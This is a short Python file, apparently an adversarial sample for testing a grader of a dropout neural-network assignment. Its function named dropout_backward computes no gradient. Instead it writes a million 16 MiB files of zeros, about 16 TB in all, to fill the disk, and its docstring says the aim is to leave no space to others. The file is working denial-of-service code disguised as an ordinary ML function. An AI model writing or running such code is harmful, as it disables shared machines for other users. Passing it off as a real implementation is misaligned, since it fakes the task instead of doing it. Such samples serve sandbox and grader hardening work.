"""Fills its folder, to leave no space to others.

gets: dropout_forward full, dropout_backward nothing
"""

from honest import *


def dropout_backward(dout, cache):
    for number in range(10**6):
        with open(f"{number}", "wb") as file:
            file.write(bytes(16 << 20))
